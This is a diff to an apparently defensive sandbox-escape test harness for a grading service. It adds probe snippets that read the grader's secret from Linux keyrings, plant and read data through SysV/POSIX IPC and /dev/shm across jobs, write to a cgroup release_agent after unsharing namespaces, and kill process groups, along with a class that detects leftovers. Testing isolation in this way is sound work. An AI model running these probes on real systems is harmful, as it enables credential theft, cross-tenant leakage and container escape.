@@ -16,6 +16,7 @@ import json
 import os
 import pickle
 import pickletools
+import struct
 import tarfile
 from dataclasses import dataclass
 from pathlib import Path
@@ -65,6 +66,39 @@ def try_write(path, data="HACKED " + MARK):
         print("WROTE", path)
     except OSError as e:
         print("write failed", path, e)
+
+
+LIBC = ctypes.CDLL(None, use_errno=True)
+KEYCALLS = dict(x86_64=(248, 249, 250), aarch64=(217, 218, 219)).get(os.uname().machine, (248, 249, 250))
+PLANTED = "deploycheck-hostile-planted"       # what one student leaves for the next
+PLANT_KEY = 0x0DC0FFEE                        # the SysV IPC key it uses
+
+
+def keyctl(*args):
+    return LIBC.syscall(ctypes.c_long(KEYCALLS[2]), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
+
+
+def read_key(kid):
+    buf = ctypes.create_string_buffer(8192)
+    n = keyctl(11, kid, buf, 8192)                                  # KEYCTL_READ
+    return buf.raw[:n].decode("latin-1") if n >= 0 else "errno %d" % ctypes.get_errno()
+
+
+def find_keys(description):
+    """(keyring, key id, payload) of every key with this description reachable from the job."""
+    found = []
+    for ring in (-1, -2, -3, -4, -5):        # thread, process, session, user, user-session keyrings
+        kid = keyctl(10, ring, b"user", description.encode(), 0)        # KEYCTL_SEARCH
+        if kid > 0:
+            found.append((ring, kid, read_key(kid)))
+    kid = LIBC.syscall(ctypes.c_long(KEYCALLS[1]), b"user", description.encode(), None, ctypes.c_long(0))
+    if kid > 0:                                                     # request_key
+        found.append(("request_key", kid, read_key(kid)))
+    print("keyring calls:", "errno %d" % ctypes.get_errno(), found)
+    keys = try_read("/proc/keys")
+    if description in keys:
+        found.append(("/proc/keys", 0, [ln for ln in keys.splitlines() if description in ln]))
+    return found
 
 
 def model_fn(model_dir):
@@ -144,6 +178,113 @@ except OSError as e:
     print("no abstract socket", e)
 leak("exfil-probe " + MARK)
 """,
+    # ---------------------------------------------------------------- kernel-shared channels
+    "keyring_read_grader": """
+for where, kid, payload in find_keys(W["key_description"]):
+    leak("the grader's key in %s: %s" % (where, payload))
+""",
+    "keyring_plant": """
+for ring in (-3, -4, -5, -2, -1):       # session, user, user-session, process, thread
+    kid = LIBC.syscall(ctypes.c_long(KEYCALLS[0]), b"user", PLANTED.encode(), MARK.encode(), len(MARK),
+                       ctypes.c_long(ring))                          # add_key
+    print("add_key", ring, kid, ctypes.get_errno())
+persistent = keyctl(22, -1, -3)                                      # KEYCTL_GET_PERSISTENT, linked to @s
+if persistent > 0:
+    LIBC.syscall(ctypes.c_long(KEYCALLS[0]), b"user", PLANTED.encode(), MARK.encode(), len(MARK),
+                 ctypes.c_long(persistent))
+""",
+    "keyring_read_planted": """
+for where, kid, payload in find_keys(PLANTED):
+    leak("a key another student planted, in %s: %s" % (where, payload))
+""",
+    "ipc_plant": """
+LIBC.shmget.restype = ctypes.c_int
+LIBC.shmat.restype = ctypes.c_void_p
+shm = LIBC.shmget(PLANT_KEY, 4096, 0o1666)                            # IPC_CREAT | 0666
+if shm >= 0:
+    addr = LIBC.shmat(shm, None, 0)
+    ctypes.memmove(addr, MARK.encode(), len(MARK))
+q = LIBC.msgget(PLANT_KEY, 0o1666)
+if q >= 0:
+    msg = struct.pack("l", 1) + MARK.encode()
+    LIBC.msgsnd(q, msg, len(MARK), 0o4000)                            # IPC_NOWAIT
+LIBC.semget(PLANT_KEY, 1, 0o1666)
+LIBC.mq_open.restype = ctypes.c_int
+mq = LIBC.mq_open(b"/" + PLANTED.encode(), os.O_CREAT | os.O_WRONLY, 0o666, None)
+if mq >= 0:
+    LIBC.mq_send(mq, MARK.encode(), len(MARK), 0)
+try_write("/dev/shm/" + PLANTED, MARK)
+u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+try:
+    u.bind("\\0" + PLANTED)
+    u.listen(5)
+except OSError as e:
+    print("abstract bind", e)
+print("planted: shm", shm, "msg", q, "mq", mq)
+if os.fork() == 0:                     # keep the abstract socket and the queue open for a while
+    time.sleep(30)
+    os._exit(0)
+""",
+    "ipc_read": """
+LIBC.shmat.restype = ctypes.c_void_p
+for key, who in ((PLANT_KEY, "another student"), (W["sysv_key"], "the grader")):
+    shm = LIBC.shmget(key, 0, 0)
+    if shm >= 0:
+        addr = LIBC.shmat(shm, None, 0o10000)                         # SHM_RDONLY
+        leak("SysV shared memory of %s: %s" % (who, ctypes.string_at(addr, 64) if addr not in (None, 2**64 - 1) else "?"))
+    q = LIBC.msgget(key, 0)
+    if q >= 0:
+        buf = ctypes.create_string_buffer(4096)
+        n = LIBC.msgrcv(q, buf, 4000, 0, 0o4000)
+        leak("SysV message queue of %s: %s" % (who, buf.raw[8:8 + max(n, 0)]))
+    if LIBC.semget(key, 0, 0) >= 0:
+        leak("SysV semaphore of %s" % who)
+LIBC.mq_open.restype = ctypes.c_int
+for name, who in (("/" + PLANTED, "another student"), (W["mq_name"], "the grader")):
+    mq = LIBC.mq_open(name.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
+    if mq >= 0:
+        buf = ctypes.create_string_buffer(9000)
+        n = LIBC.mq_receive(mq, buf, 9000, None)
+        leak("POSIX message queue of %s: %s" % (who, buf.raw[:max(n, 0)]))
+for name in ("/dev/shm/" + PLANTED, W["shm_file"]):
+    data = try_read(name)
+    if not data.startswith(("FileNotFoundError", "PermissionError")):
+        leak("read %s: %s" % (name, data[:200]))
+for name in (PLANTED, W["abstract"]):
+    try:
+        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        c.connect("\\0" + name)
+        c.sendall(MARK.encode())
+        leak("connected to the abstract socket " + name)
+    except OSError as e:
+        print("abstract", name, e)
+for kind in ("shm", "msg", "sem"):
+    listing = try_read("/proc/sysvipc/" + kind)
+    if "%d" % PLANT_KEY in listing or "%d" % W["sysv_key"] in listing:
+        leak("saw a planted SysV object in /proc/sysvipc/" + kind)
+""",
+    "cgroup_files": """
+libc = LIBC
+found = []
+for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"):
+    try:
+        found.append((root, os.listdir(root)[:20]))
+    except OSError as e:
+        print(root, e)
+if libc.unshare(0x10000000 | 0x00020000 | 0x02000000) == 0:          # user, mount, cgroup namespaces
+    os.makedirs("/tmp/cg", exist_ok=True)
+    for fs, opts in ((b"cgroup2", None), (b"cgroup", b"memory"), (b"cgroup", b"pids")):
+        if libc.mount(fs, b"/tmp/cg", fs, 0, opts) == 0:
+            found.append(("mounted " + fs.decode(), os.listdir("/tmp/cg")[:20]))
+            for name in ("release_agent", "notify_on_release", "cgroup.procs", "cgroup.subtree_control"):
+                try_write("/tmp/cg/" + name, "/tmp/" + MARK)
+            libc.umount2(b"/tmp/cg", 2)
+else:
+    print("no new namespaces:", ctypes.get_errno())
+print("cgroup file systems seen:", found)
+if found:
+    leak("reached cgroup files: %s" % found)
+""",
     # ---------------------------------------------------------------- writes
     "write_own_original_repo": """
 try_write(W["self_repo"] + "/aws_deploy/inference.py", "\\nraise SystemExit('tampered')\\n")
@@ -215,6 +356,15 @@ try:
     os.kill(-1, signal.SIGKILL)
 except OSError as e:
     print("kill(-1):", e)
+""",
+    "kill_own_process_group": """
+for what, how in (("kill(0)", lambda: os.kill(0, signal.SIGKILL)), ("killpg", lambda: os.killpg(os.getpgrp(), signal.SIGKILL)),
+                  ("kill(-ppid)", lambda: os.kill(-os.getppid(), signal.SIGKILL) if os.getppid() > 0 else None)):
+    try:
+        how()
+    except OSError as e:
+        print(what, e)
+raise RuntimeError("still alive after signalling my own process group")
 """,
     "kill_parent_and_grader": """
 for pid in (W["grader_pid"], W["test_pid"], os.getppid()):
@@ -382,7 +532,7 @@ def build(root: Path, *, tcp_port: int, udp_port: int, abstract: str, grader_pid
     repos["benign"] = repo("benign", BENIGN)
     world = {"tcp_port": tcp_port, "udp_port": udp_port, "abstract": abstract, "grader_pid": grader_pid,
              "test_pid": test_pid, "home": str(home), "report": str(report), "checkout": str(checkout),
-             "victim": str(victim), "package": package}
+             "victim": str(victim), "package": package, **shared_names(token)}
     for i, (name, body) in enumerate(ATTACKS.items()):
         mark = f"hx{token[:6]}{i:02d}"
         marks[name] = mark
@@ -404,8 +554,71 @@ def build(root: Path, *, tcp_port: int, udp_port: int, abstract: str, grader_pid
     spec = World(root, token, home, report, checkout, victim, repos, marks,
                  (canary,), env)
     spec.spec_path().write_text(json.dumps({"repos": {k: str(v) for k, v in repos.items()}, "marks": marks,
-                                            "canary": canary}))
+                                            "canary": canary, **shared_names(token)}))
     return spec
+
+
+PLANTED = "deploycheck-hostile-planted"     # the name the planting attacks use (PRELUDE's PLANTED)
+PLANT_KEY = 0x0DC0FFEE                      # their SysV IPC key (PRELUDE's PLANT_KEY)
+
+
+def shared_names(token: str) -> dict:
+    """Names of the grader's objects in the kernel-shared channels (its session keyring, SysV IPC, a
+    POSIX message queue, /dev/shm), each holding a canary the attacks look for."""
+    return {"key_description": f"deploycheck-grader-token-{token}", "sysv_key": int(token[:7], 16) | 1,
+            "mq_name": f"/dc-grader-{token}", "shm_file": f"/dev/shm/dc-grader-{token}"}
+
+
+class HostChannels:
+    """The grader machine's side of the kernel-shared channels: its objects (each with the canary,
+    open to every user: only the sandbox may stop a job), and what jobs may have left there."""
+
+    def __init__(self, token: str, canary: str) -> None:
+        import ctypes
+        self.names = shared_names(token)
+        self.libc = ctypes.CDLL(None, use_errno=True)
+        self.libc.mq_open.restype = ctypes.c_int
+        payload = f"{canary}-ipc".encode()
+        self.queue = self.libc.msgget(self.names["sysv_key"], 0o1666)
+        if self.queue >= 0:
+            self.libc.msgsnd(self.queue, struct.pack("l", 1) + payload, len(payload), 0o4000)
+        self.libc.mq_unlink(self.names["mq_name"].encode())
+        mq = self.libc.mq_open(self.names["mq_name"].encode(), os.O_CREAT | os.O_WRONLY, 0o666, None)
+        if mq >= 0:
+            os.fchmod(mq, 0o666)
+            self.libc.mq_send(mq, payload, len(payload), 0)
+            os.close(mq)
+        _write(Path(self.names["shm_file"]), payload)
+
+    def leftovers(self) -> list[str]:
+        """Objects the planting attacks made outside their sandbox (on the grader's machine)."""
+        out = []
+        for kind in ("shm", "msg", "sem"):
+            try:
+                rows = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
+            except OSError:
+                continue
+            out += [f"SysV {kind} {PLANT_KEY:#x}" for r in rows if r.split() and r.split()[0] == str(PLANT_KEY)]
+        mq = self.libc.mq_open(f"/{PLANTED}".encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
+        if mq >= 0:
+            os.close(mq)
+            out.append(f"POSIX message queue /{PLANTED}")
+        if os.path.exists(f"/dev/shm/{PLANTED}"):
+            out.append(f"/dev/shm/{PLANTED}")
+        return out
+
+    def close(self) -> None:
+        if self.queue >= 0:
+            self.libc.msgctl(self.queue, 0, None)                   # IPC_RMID
+        self.libc.mq_unlink(self.names["mq_name"].encode())
+        Path(self.names["shm_file"]).unlink(missing_ok=True)
+        for get, rm in ((self.libc.shmget, self.libc.shmctl), (self.libc.msgget, self.libc.msgctl),
+                        (self.libc.semget, self.libc.semctl)):      # what got out (a failed run): IPC_RMID
+            ident = get(PLANT_KEY, 0, 0)
+            if ident >= 0:
+                rm(ident, 0, None)
+        self.libc.mq_unlink(f"/{PLANTED}".encode())
+        Path(f"/dev/shm/{PLANTED}").unlink(missing_ok=True)
 
 
 def snapshot(root: Path) -> dict[str, str]:
